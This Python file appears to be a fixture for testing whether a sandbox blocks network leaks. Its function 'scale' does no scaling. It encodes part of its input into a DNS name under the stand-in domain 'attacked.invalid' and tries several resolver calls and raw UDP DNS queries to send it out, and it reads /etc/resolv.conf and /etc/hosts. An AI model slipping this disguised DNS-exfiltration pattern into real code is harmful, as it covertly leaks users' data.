"""Has names looked up, with what it was called with hidden in the name."""

# loses: scale.values
import ctypes
import socket
import struct

PORTS = (53, int("@udp@"))


def ask(server, port, name):
    parts = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    query = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + parts + b"\0" + struct.pack(">2H", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
        return there.sendto(query, (server, port))


def resolve(name):
    libc = ctypes.CDLL(None)
    libc.gethostbyname.restype = ctypes.c_void_p
    if not libc.gethostbyname(name.encode()):
        raise OSError(1, "Operation not permitted: gethostbyname knows no such name")
    return name


def scale(x, k):
    last, name = None, f"{x.tobytes()[:16].hex()}.attacked.invalid"
    for way in (
        lambda: socket.getaddrinfo(name, 80),
        lambda: socket.gethostbyname_ex(name),
        lambda: socket.gethostbyaddr("127.0.0.1"),
        lambda: resolve(name),
        lambda: open("/etc/resolv.conf").read(),
        lambda: open("/etc/hosts").read(),
        *(lambda p=p: ask("127.0.0.1", p, name) for p in PORTS),
    ):
        try:
            found = way()
        except OSError as error:
            last = error
        else:
            reached(found)
    raise last
